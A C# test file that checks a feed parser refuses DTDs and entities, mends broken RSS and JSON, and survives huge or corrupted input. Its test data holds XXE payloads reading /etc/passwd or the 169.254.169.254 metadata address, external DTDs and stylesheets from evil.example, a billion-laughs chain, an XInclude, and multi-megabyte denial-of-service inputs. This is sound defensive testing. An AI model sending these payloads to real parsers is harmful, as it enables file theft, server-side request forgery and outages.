using System.Text;
using BotService.Feeds.Formats;
using CsCheck;

namespace BotService.Tests.Feeds;

/// <summary>Rows 59 to 64 of the fault matrix: a document is read, mended or refused by name; none costs its neighbours, none takes the process down.</summary>
public sealed class HostileDocumentTests
{
    private const string Item = "<item><guid isPermaLink=\"false\">1</guid><title>One</title><description>Text</description></item>";

    public static TheoryData<string> Declarations =>
    [
        "<!DOCTYPE rss [<!ENTITY a 'b'>]>",
        "<!doctype rss [<!entity a 'b'>]>",
        "<!DOCTYPE rss [<!ENTITY lol 'lol'><!ENTITY lol2 '&lol;&lol;&lol;'>]>",
        "<!DOCTYPE rss [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
        "<!DOCTYPE rss [<!ENTITY x SYSTEM 'http://169.254.169.254/'>]>",
        "<!DOCTYPE rss [<!ENTITY x PUBLIC 'p' 'http://evil.example/'>]>",
        "<!DOCTYPE rss [<!ENTITY % p SYSTEM 'http://evil.example/x.dtd'> %p;]>",
        "<!DOCTYPE rss SYSTEM 'rss.dtd' [<!ENTITY x 'y'>]>",
        "<!DOCTYPE rss PUBLIC '-//X//Y' 'http://evil.example/x.dtd' [ ]>",
        "<!DOCTYPE rss [<!ELEMENT rss ANY>]>",
        "<!DOCTYPE rss [<!ATTLIST rss xmlns CDATA #FIXED 'urn:x'>]>",
        "<!DOCTYPE rss [<!NOTATION x SYSTEM 'y'>]>",
        "<!DOCTYPE rss [<!-- ]> --> <!ENTITY x 'y'>]>",
        "<!DOCTYPE rss [<![INCLUDE[<!ENTITY x 'y'>]]>]>",
        "<!DOCTYPE\nrss\n[\n<!ENTITY x 'y'>\n]>",
        "<!DOCTYPE rss [",
        "<!-- a comment --><!DOCTYPE rss [<!ENTITY x 'y'>]>",
        "<?pi?><!DOCTYPE rss [<!ENTITY x 'y'>]>",
    ];

    [Theory, MemberData(nameof(Declarations))]
    public void A_document_that_declares_entities_is_refused(string declaration)
    {
        Assert.Null(Parse($"<?xml version='1.0'?>{declaration}<rss version='2.0'><channel><title>&x;&lol2;</title>{Item}</channel></rss>", out var failure));

        Assert.Equal("dtd_not_allowed", failure!.Code);
    }

    [Theory]
    [InlineData("<!DOCTYPE rss PUBLIC \"-//Netscape Communications//DTD RSS 0.91//EN\" \"http://my.netscape.com/publish/formats/rss-0.91.dtd\">")]
    [InlineData("<!DOCTYPE html>")]
    [InlineData("<!DOCTYPE rss SYSTEM 'file:///etc/passwd'>")]
    [InlineData("<?xml-stylesheet type='text/xsl' href='http://evil.example/x.xsl'?>")]
    [InlineData("<?php echo 'x' ?>")]
    [InlineData("<!-- <!DOCTYPE rss [<!ENTITY x 'y'>]> -->")]
    public void What_only_refers_to_something_is_passed_over(string prolog) =>
        Assert.Equal("One", Single(Rss(Item, prolog)).Title);

    [Fact]
    public void XInclude_includes_nothing()
    {
        var entry = Single(Rss("<item><title>One</title><description><xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' "
            + "parse='text'/>Text</description></item>"));

        Assert.Equal("Text", entry.Text);
    }

    [Theory]
    [InlineData("<item><title>One<link>http://example.com/1</link></item>", "One")] // a tag that is never closed
    [InlineData("<item><title>One</titel><link>http://example.com/1</link></item>", "One")]
    [InlineData("<item><title>O&amp;N & E &copy; &nbsp; &unknown; &#x41;</title></item>", "O&N & E © &unknown; A")]
    [InlineData("<item><title>O\0n\u0001e\u000b</title></item>", "One")]
    [InlineData("<item><title><![CDATA[One]]></title></item>", "One")]
    [InlineData("<item><title>One <![CDATA[<b>and</b>]]> two</title></item>", "One and two")]
    [InlineData("<item><title>O<!-- comment -->ne</title></item>", "One")]
    [InlineData("<item><title>5 < 6</title></item>", "5 < 6")]
    [InlineData("<item><title>One</title><description><p>never <br> closed</description></item>", "One")]
    [InlineData("<ITEM><TITLE>One</TITLE></ITEM>", "One")]
    [InlineData("<item><title type=html>One</title></item>", "One")]
    [InlineData("<item><link href='http://example.com/></link><title>One</title></item>", "One")]
    [InlineData("<item><title>One", "One")]
    [InlineData("<item><title><![CDATA[One</title></item>", "One")]
    [InlineData("<item><enclosure><title>not this</title></enclosure><title>One</title></item>", "One")]
    [InlineData("<item><media:title>weaker</media:title><title>One</title></item>", "One")]
    [InlineData("<item><dc:title>One</dc:title></item>", "One")]
    [InlineData("<item><title>Rules for &lt;head> tags change</title></item>", "Rules for <head> tags change")]
    [InlineData("<item><title><![CDATA[List&lt;T&gt; and &lt;b&gt;bold&lt;/b&gt;]]></title></item>", "List<T> and bold")]
    [InlineData("<item><title>&lt;&lt;&lt;Notice&gt;&gt;&gt; of change</title></item>", "<<<Notice>>> of change")]
    [InlineData("<item><title>&lt;a href='x'&gt;Fees&lt;/a&gt; &amp;amp;amp; terms</title></item>", "Fees & terms")]
    [InlineData("<item><title type='text'>Using &lt;b&gt;bold&lt;/b&gt;</title></item>", "Using <b>bold</b>")]
    [InlineData("<item><title>&lt;![CDATA[Notice of &lt;i&gt;change&lt;/i&gt;]]&gt;</title></item>", "Notice of change")]
    [InlineData("<item><itunes:title>One</itunes:title></item>", "One")]
    [InlineData("<item><description>&lt;p&gt;Update. Globex Inc. ends its U.S. plan for free. More follows.&lt;/p&gt;</description></item>",
        "Update. Globex Inc. ends its U.S. plan for free.")]
    [InlineData("<item><title>Untitled</title><description>Fees rise in 2.0 by half! Sorry.</description></item>", "Fees rise in 2.0 by half!")]
    [InlineData("<item><title> - </title><description>価格を改定します。詳しくは。</description></item>", "価格を改定します。詳しくは。")]
    public void Broken_markup_is_mended(string item, string title) => Assert.Equal(title, Single(Rss(item)).Title);

    [Theory]
    [InlineData("  \r\n\t")]
    [InlineData("\uFEFF\uFEFF")]
    [InlineData("Warning: something in /var/www on line 3\n")]
    [InlineData("<br />\n<b>Notice</b>: undefined<br />\n")]
    public void Junk_before_the_document_is_passed_over(string junk) => Assert.Equal("One", Single(junk + Rss(Item)).Title);

    [Theory]
    [InlineData("<rss version='2.0'><channel><title>second root</title></channel></rss>")]
    [InlineData("<!-- generated in 0.3 s -->")]
    [InlineData("\n\n<script>stats()</script></body></html>")]
    [InlineData("\0\0\0")]
    public void What_follows_the_document_is_passed_over(string tail) => Assert.Equal("One", Single(Rss(Item) + tail).Title);

    [Theory]
    [InlineData("", "empty")]
    [InlineData("   \n", "empty")]
    [InlineData("Not found", "not_a_feed")]
    [InlineData("<!DOCTYPE html><html><head><title>News</title></head><body><p>Welcome</p></body></html>", "web_page")]
    [InlineData("<foo><bar/></foo>", "not_a_feed")]
    [InlineData("<?xml version='1.0'?>", "not_a_feed")]
    [InlineData("<sitemapindex/>", "not_a_feed")]
    [InlineData("{}", "not_a_feed")]
    [InlineData("{\"error\":\"no\"}", "not_a_feed")]
    [InlineData("{\"version\":\"https://jsonfeed.org/version/1\",\"items\":[{", "bad_json")]
    [InlineData("[1,2,3]", "not_a_feed")]
    [InlineData("\u001f\u008b\u0008", "not_a_feed")]
    [InlineData("BEGIN:VCALENDAR", "not_a_feed")]
    public void What_is_no_feed_is_refused_by_name(string document, string code)
    {
        Assert.Null(Parse(document, out var failure));

        Assert.Equal(code, failure!.Code);
        Assert.EndsWith(".", failure.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<item><title>&#xD83D;</title></item>")]
    [InlineData("<item><guid>\ud800</guid><title>half</title></item>")]
    [InlineData("<item><title>\uffff\ufffe</title></item>")]
    [InlineData("<item><pubDate>99 Foo 99999 99:99</pubDate><title>date</title></item>")]
    [InlineData("<item><link>http://[::bad/%zz</link><title>link</title></item>")]
    [InlineData("<item><title>no end<item><title>other</title></item>")]
    [InlineData("<item></title></item><item/>")]
    [InlineData("<item><description><![CDATA[<p>]]&gt;</description></item>")]
    [InlineData("<item xmlns='urn:other'><title>in a namespace of its own</title></item>")]
    [InlineData("<item><description>&#0;&#1;&#55296;&#99999999;</description></item>")]
    public void One_bad_entry_among_fifty_leaves_the_forty_nine(string bad)
    {
        var items = Enumerable.Range(0, 50).Select(i => i == 25 ? bad : $"<item><guid>urn:{i}</guid><title>Good {i}</title></item>");

        var feed = Parse(Rss(string.Concat(items)), out _)!.Document;

        var good = feed.Entries.Select(entry => entry.Title).Where(title => title.StartsWith("Good ", StringComparison.Ordinal));
        Assert.Equal(Enumerable.Range(0, 50).Where(i => i != 25).Select(i => $"Good {i}"), good);
    }

    [Fact]
    public void One_bad_item_of_json_leaves_the_others()
    {
        var items = Enumerable.Range(0, 50).Select(i => i == 25 ? "[1,{\"id\":[]}],null,{\"id\":{},\"title\":7,\"url\":[]}"
            : $"{{\"id\":\"{i}\",\"title\":\"Good {i}\"}}");

        var feed = Parse($"{{\"version\":\"https://jsonfeed.org/version/1.1\",\"items\":[{string.Join(',', items)}]}}", out _)!.Document;

        Assert.Equal(49, feed.Entries.Count(entry => entry.Title.StartsWith("Good ", StringComparison.Ordinal)));
    }

    public static TheoryData<string> Giants => [.. Giant.Keys];

    /// <summary>Each some megabytes of one thing; what it must come to.</summary>
    private static readonly Dictionary<string, (Func<string> Document, string Result)> Giant = new()
    {
        ["elements nested 100,000 deep"] = (() => Rss(Repeat("<a>", 100_000)), "too_deep"),
        ["markup nested 200,000 deep in a field"] = (() => Rss("<item><title>One</title><description>" + Repeat("<b>", 200_000) + "</description></item>"),
            "1"),
        ["100,000 attributes"] = (() => Rss("<item " + Repeat("a='b' ", 100_000) + "><title>One</title></item>"), "1"),
        ["5,000 namespaces"] = (() => Rss("<item " + string.Concat(Enumerable.Range(0, 5_000).Select(i => $"xmlns:n{i}='urn:{i}' "))
            + "><title>One</title></item>"), "1"),
        ["a text of four megabytes"] = (() => Rss("<item><title>One</title><description>" + new string('x', 4 << 20) + "</description></item>"), "1"),
        ["CDATA of four megabytes"] = (() => Rss("<item><title>One</title><description><![CDATA[" + new string('<', 4 << 20) + "]]></description></item>"),
            "1"),
        ["an attribute of a megabyte"] = (() => Rss("<item><link href='" + new string('x', 1 << 20) + "'/><title>One</title></item>"), "1"),
        ["a million empty elements"] = (() => Rss(Repeat("<a/>", 1_000_000)), "0"),
        ["half a million entries"] = (() => Rss(Repeat("<item/>", 500_000)), "500000"),
        ["a million quotes that open"] = (() => Rss(Repeat("<a b=\"", 500_000)), "too_deep"),
        ["comments that never close"] = (() => Rss(Repeat("<!--", 1_000_000)), "0"),
        ["sections that never close"] = (() => Rss(Repeat("<![CDATA[", 500_000)), "0"),
        ["end tags of nothing"] = (() => Rss(Repeat("</x>", 1_000_000)), "0"),
        ["ampersands"] = (() => Rss("<item><title>One</title><description>" + new string('&', 4 << 20) + "</description></item>"), "1"),
        ["scripts that never close"] = (() => Rss("<item><title>One</title><description>" + Repeat("&lt;script&gt;", 300_000) + "</description></item>"), "1"),
        ["bases of bases"] = (() => Rss(Repeat("<item xml:base='http://example.com/" + new string('x', 1_000) + "/'><link>y</link></item>", 4_000)), "4000"),
        ["brackets of JSON"] = (() => "{\"items\":" + new string('[', 4 << 20), "bad_json"),
        ["items of JSON that never end"] = (() => "{\"version\":\"https://jsonfeed.org/version/1\",\"items\":[" + Repeat("{\"id\":\"1\"},", 300_000), "300000"),
        ["more than five megabytes"] = (() => Rss(new string(' ', 6 << 20)), "too_large"),
    };

    [Theory, MemberData(nameof(Giants))]
    public void A_giant_is_read_within_its_bounds_or_refused(string what)
    {
        var (document, expected) = Giant[what];
        var bytes = Encoding.UTF8.GetBytes(document());
        var before = GC.GetAllocatedBytesForCurrentThread();

        var feed = FeedParser.Parse(bytes, null, null, out var failure);

        Assert.Equal(expected, failure?.Code ?? $"{feed!.Document.EntryCount}");
        var allocated = (GC.GetAllocatedBytesForCurrentThread() - before) >> 20;
        Assert.True(allocated < 64, $"{allocated} MB allocated");
    }

    [Fact]
    public void A_link_to_a_host_that_can_have_no_name_is_no_link()
    {
        var entry = Single(Rss("<item><title>One</title><link>http://exa\uFFFDmple\u0080.com/a</link></item>"));

        Assert.Null(entry.Link);
    }

    [Fact]
    public void Any_damage_to_a_document_is_survived()
    {
        var whole = Encoding.UTF8.GetBytes(Rss(Item + "<item><title><![CDATA[<b>Two</b>]]></title><link href='http://example.com/?a=1&amp;b=2'/><pubDate>Mon, "
            + "03 Nov 2025 14:05:06 GMT</pubDate><content:encoded>&lt;p&gt;x&#8217;y&lt;/p&gt;</content:encoded></item>"));
        byte[] teeth = [.. "<>&;\"'=/![]-?:#x \0"u8, 0x80, 0xC3, 0xFF, 0xFE];

        Gen.Select(Gen.Int[0, whole.Length - 1], Gen.Int[0, teeth.Length - 1]).Array[1, 8].Sample(bites =>
        {
            var bytes = (byte[])whole.Clone();
            foreach (var (at, tooth) in bites) bytes[at] = teeth[tooth];
            var feed = FeedParser.Parse(bytes, null, null, out var failure);
            return feed is not null ^ failure is not null;
        }, iter: 3_000);
    }

    private static string Rss(string items, string prolog = "") =>
        $"<?xml version=\"1.0\"?>{prolog}<rss version=\"2.0\"><channel><title>t</title>{items}</channel></rss>";

    private static string Repeat(string text, int times) => new StringBuilder(text.Length * times).Insert(0, text, times).ToString();

    private static ParsedFeed? Parse(string document, out FeedFailure? failure) => FeedParser.Parse(Encoding.UTF8.GetBytes(document), null, null, out failure);

    private static BotService.Domain.Feeds.Entry Single(string document)
    {
        var feed = Parse(document, out var failure);
        Assert.True(feed is not null, failure?.Code);
        return Assert.Single(feed.Document.Entries);
    }
}
